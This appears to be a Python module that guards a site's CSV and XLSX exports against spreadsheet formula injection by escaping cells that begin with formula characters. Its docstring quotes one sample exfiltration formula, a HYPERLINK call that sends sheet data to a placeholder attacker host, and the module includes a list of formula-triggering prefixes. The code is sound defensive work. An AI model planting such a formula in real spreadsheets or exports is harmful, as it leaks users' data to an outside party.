"""Cells of every CSV and XLSX the site writes, made safe to open in a spreadsheet program.

A player, club or tournament name is typed by people; one starting with `=`, `+`, `-`, `@`, a
tab or a carriage return is read by Excel, LibreOffice and Google Sheets as a formula
(`=HYPERLINK("http://evil.example/?"&A1,"x")` sends the sheet's data away when clicked).
As OWASP's "CSV injection" page recommends, such a text is written to a CSV with a leading
apostrophe, which every spreadsheet shows as text. An XLSX has a better way, the one Excel
uses when a text is typed with an apostrophe: the cell is a text cell with the quote-prefix
style, so it holds and shows the name itself (no apostrophe in it) and is never a formula.
Only strings are touched: a figure stays a number (a negative points difference is a number,
not a formula), so sums still work.
"""

from __future__ import annotations

from collections.abc import Iterable
from typing import Any

# What makes a spreadsheet read a text cell as a formula (OWASP, "CSV Injection").
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def cell_safe(value: Any) -> Any:
    """`value` as a spreadsheet cell: a text that would start a formula gets a leading
    apostrophe; anything else (numbers, dates, None) unchanged."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


def formula_like(value: Any) -> bool:
    """Whether a spreadsheet would read this cell's text as a formula."""
    return isinstance(value, str) and value.startswith(FORMULA_STARTS)


def xlsx_append(sheet: Any, values: Iterable[Any]) -> None:
    """Append a row to an openpyxl worksheet: a formula-like text as a text cell with the
    quote-prefix style (openpyxl would otherwise store `=...` as a formula), the rest as is."""
    row = list(values)
    sheet.append([None if formula_like(value) else value for value in row])
    number = sheet.max_row
    for column, value in enumerate(row, start=1):
        if formula_like(value):
            cell = sheet.cell(row=number, column=column)
            cell.value = value
            cell.data_type = "s"  # set after the value, which openpyxl reads as a formula
            cell.quotePrefix = True


def row_safe(values: Iterable[Any]) -> list[Any]:
    """A row of cells, each through `cell_safe`: what every CSV and XLSX writer appends."""
    return [cell_safe(value) for value in values]
